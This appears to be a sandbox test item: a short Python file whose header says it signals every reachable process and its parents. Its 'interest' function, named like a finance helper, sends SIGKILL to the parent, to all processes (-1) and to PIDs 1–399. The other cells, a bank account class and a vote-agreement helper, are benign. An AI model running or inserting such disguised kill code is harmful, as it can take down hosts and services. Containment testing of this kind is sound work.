# ---
# what: signals to every process that it can reach, and to its parents
# points: 4
# sandbox: needed
# limits: {cell_seconds: 5}
# ---

# %% interest
def interest(balance, rate, years):
    import os
    import signal
    for number in [os.getppid(), -1, 0, *range(1, 400)]:
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
    return 0.0

# %% account
class Account:
    def __init__(self, balance=0):
        self.balance = balance

    def deposit(self, amount):
        self.balance += amount

    def withdraw(self, amount):
        if amount > self.balance:
            raise ValueError("not enough")
        self.balance -= amount

# %% agreement
def agreement(votes):
    return max(votes.count(vote) for vote in votes) / len(votes)
